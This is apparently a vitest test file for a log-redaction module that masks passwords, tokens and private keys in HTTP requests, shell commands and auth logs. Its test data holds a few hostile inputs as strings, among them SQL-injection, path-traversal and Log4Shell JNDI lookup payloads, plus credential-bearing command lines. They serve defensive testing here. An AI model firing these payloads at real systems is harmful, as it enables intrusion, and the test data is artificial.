import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { mask, maskUserName } from '../../src/domain/mask.ts';

const SECRET = 'S3cr3tValue9xQ';
const VEIL = /‹secret:[0-9a-f]{8}›/;

/** `$` stands for the secret. */
const HIDING = [
  'GET /login?user=bob&password=$ HTTP/1.1', 'POST /api?access_token=$&x=1', '/x?api_key=$', '/x?apikey=$', '/x?client_secret=$', '/x?a=1&pwd=$', '/x?pass=$', '/x?passwd=$#frag',
  'GET /login?password%3D$ HTTP/1.1', 'DB_PASSWORD=$ ./run', 'export PGPASSWORD=$', 'MYSQL_PWD=$ mysqldump db', 'Server=db;Uid=app;Pwd=$;', 'AWS_SECRET_ACCESS_KEY=$', 'accessToken=$', 'password_confirm=$', 'userPassword="$"',
  '{"password":"$"}', "{'token': '$'}", '{\\"secret\\":\\"$\\"}', 'X-Api-Key: $', 'token: $', 'Authorization: Basic $', 'authorization: Bearer $', '"Authorization":"Bearer $"', 'Proxy-Authorization: Basic $', 'curl -H "Authorization: token $" https://x',
  'sent Bearer $ upstream', 'tool --password $ --host db', 'tool --password=$', "tool --token '$'", 'tool --api-key $', 'mysql -u root -p$ shop', 'mysqldump -p$ --all-databases', 'sshpass -p $ ssh root@192.0.2.9', "sshpass -p'$' scp a b:", 'sshpass -p$ ssh x',
  'curl -u admin:$ https://example.org', 'curl --user admin:$ https://example.org', 'git clone https://bob:$@git.example.org/x', 'redis://:$@cache:6379/0', 'postgres://app:$@db/shop', 'smbclient //srv/share -U corp/bob%$', 'redis-cli -a $ ping',
  'ldapsearch -x -D cn=admin -w $ -b dc=x', 'openssl enc -pass pass:$ -in a', 'net user bob $ /add', 'usermod -p $ bob', "echo 'bob:$' | chpasswd", 'echo $ | sudo -S id', 'plink -pw $ host', '/cb?code=$0123456789', 'JSESSIONID=$', '/x?X-Amz-Signature=$',
];
const SHAPES = [
  'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.c2lnbmF0dXJl', 'AKIAABCDEFGHIJKLMNOP', `ghp_${'a1B2'.repeat(9)}`, `github_pat_${'a1B2'.repeat(8)}`, `glpat-${'a1B2'.repeat(5)}`, `xoxb-12345-${'a1B2'.repeat(5)}`,
  `AIza${'a1B2c'.repeat(7)}`, `npm_${'a1B2'.repeat(9)}`, `sk_live_${'a1B2'.repeat(6)}`, `sk-proj-${'a1B2'.repeat(6)}`,
  '-----BEGIN RSA PRIVATE KEY-----MIIEabc123\\nxyz-----END RSA PRIVATE KEY-----', '-----BEGIN OPENSSH PRIVATE KEY-----\nb3Blbn',
];
const BENIGN = [
  'sshd[811]: Failed password for root from 203.0.113.9 port 50123 ssh2', 'sshd[901]: Accepted publickey for bob from 192.0.2.4 port 50000 ssh2: ED25519 SHA256:0hfTq1v7oK0pXk2o0wz7d9bqzS1aMk3m4n5o6p7q8r9',
  'pam_unix(passwd:chauthtok): password changed for bob', 'pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=203.0.113.9  user=root',
  'sudo: bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/usr/bin/apt update', 'sudo: bob : TTY=unknown ; PWD=unknown ; USER=root ; COMMAND=/bin/ls -p /tmp',
  'sudo: bob : TTY=pts/0 ; PWD=/root ; USER=root ; COMMAND=/usr/bin/passwd alice', 'useradd[955]: new user: name=support, UID=1001, GID=1001, home=/home/support, shell=/bin/bash',
  'type=SYSCALL msg=audit(1700000000.123:456): arch=c000003e syscall=59 success=yes exit=0 key="sshd_config"', 'session 550e8400-e29b-41d4-a716-446655440000 opened', 'sha256 e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
  'GET /search?q=password+reset&page=2 HTTP/1.1', 'GET /account/password HTTP/1.1', 'GET /static/token.js?v=12 HTTP/1.1', 'password: Permission denied', 'token: expected end of input', 'pass=1 fail=0 skip=2', 'secret=true', 'password=********',
  'https://example.org:8443/path@2x.png', 'mkdir -p /var/lib/app', 'ssh -p 2222 bob@192.0.2.9', 'curl -u https://example.org', 'curl https://example.org/a:b', 'tar -xzpf backup.tgz', 'rsync -ap /a /b', 'docker run -p 8080:80 nginx', 'Basic authentication required',
  "GET /login?user=a&password=' or 1=1-- HTTP/1.1", 'GET /login?password=%27%20OR%201%3D1-- HTTP/1.1', 'GET /x?token=../../etc/passwd HTTP/1.1', 'GET /x?pass=${jndi:ldap://203.0.113.9/a} HTTP/1.1', 'systemd[1]: Started Dispatch Password Requests to Console.',
  'polkitd: Registered Authentication Agent for unix-process:123:456 (system bus name :1.5)', 'bypass=on', 'compass=north', 'keyboard-interactive/pam for bob', 'signature: RSA-SHA256',
];

describe('mask', () => {
  it.each(HIDING)('hides the secret in: %s', (form) => {
    const masked = mask(form.replace('$', () => SECRET));
    expect(masked).not.toContain(SECRET);
    expect(masked).toMatch(VEIL);
    expect(mask(masked)).toBe(masked);
  });

  it.each(SHAPES)('knows by its shape: %s', (secret) => {
    const masked = mask(`GET /x ${secret}`);
    expect(masked).toMatch(VEIL);
    expect(masked).not.toContain(secret.replace(/-----END.*/, '').slice(-6));
  });

  it.each(BENIGN)('leaves alone: %s', (line) => { expect(mask(line)).toBe(line); });

  it('gives equal secrets the same mask and others another', () => {
    const veil = (text: string): string | undefined => VEIL.exec(mask(text))?.[0];
    expect(veil(`password=${SECRET}`)).toBe(veil(`tool --token ${SECRET}`));
    expect(veil(`password=${SECRET}`)).not.toBe(veil('password=another1'));
    expect(mask('password=secret1 x')).toBe('password=‹secret:5b11618c› x');
  });

  it('keeps what stands around the secret', () => {
    expect(mask(`GET /a?x=1&password=${SECRET}&y=2 HTTP/1.1`)).toMatch(/^GET \/a\?x=1&password=‹secret:[0-9a-f]{8}›&y=2 HTTP\/1\.1$/);
    expect(mask('password=password=')).not.toContain('‹secret:‹');
  });

  it('changes nothing a second time, whatever the text', () => {
    const word = fc.constantFrom('password', '=', ':', '"', ' ', '&', 'token', SECRET, '--password', '://', '@', 'Bearer', 'mysql', '-p', 'eyJ', '.', '%27', 'Authorization', "'", '\\', 'sshpass', 'pass', '‹', '›');
    fc.assert(fc.property(fc.oneof(fc.array(word).map((words) => words.join('')), fc.string()), (text) => {
      const once = mask(text);
      expect(mask(once)).toBe(once);
    }), { numRuns: 3_000 });
  });

  it('takes linear time on lines made to be slow', () => {
    const pieces = ['a-', 'pass', 'password="', '://a:', 'eyJaaaaaaaaaa-', '-----BEGIN PRIVATE KEY-----', 'mysql -p', ' -u a', 'bearer ', 'authorization', 'net user ', 'SG.aaaaaaaaaaaaaaaaa', '\\\\\\\\', 'token: ', '%27a', 'echo a', ' '];
    for (const piece of pieces) {
      const text = `password ${piece.repeat(Math.ceil(300_000 / piece.length))}`;
      const started = performance.now();
      mask(text);
      expect(performance.now() - started, piece).toBeLessThan(3_000);
    }
  });
});

describe('maskUserName', () => {
  it.each(['P@ssw0rd', 'Tr0ub4dor&3', 'p@ssw0rd1', 'Pa$$w0rd', 'Password123!', 'Summer2024!', 'aB3dE9xK2m', 'qW3#rty9', 'letMe1n!'])('masks %s', (name) => {
    expect(maskUserName(name)).toMatch(/^‹secret:[0-9a-f]{8}›$/);
  });

  it.each([
    'root', 'www-data', 'svc_backup01', 'John.Smith', 'user@example.org', 'DOMAIN\\user', 'DOMAIN\\svc-SQL01$', 'WEB01$', 'oracle11g', 'user123', 'JSmith01', 'svcBackup2', 'ubuntu', 'systemd-network', '_apt', 'test1234', 'admin!', 'a.b+c@mail.example.org',
    'host/web01.example.org@EXAMPLE.ORG', 'system:serviceaccount:default:app', 'S-1-5-21-100-200-300-1001', '550e8400-e29b-41d4-a716-446655440000', 'd41d8cd98f00b204e9800998ecf8427e', 'CN=Admin1,DC=example', "root' or 1=1--", '${jndi:ldap://x1/A}', 'user1@corp', 'invalid user', '', '0101', 'Admin01',
  ])('leaves %s alone', (name) => { expect(maskUserName(name)).toBe(name); });
});
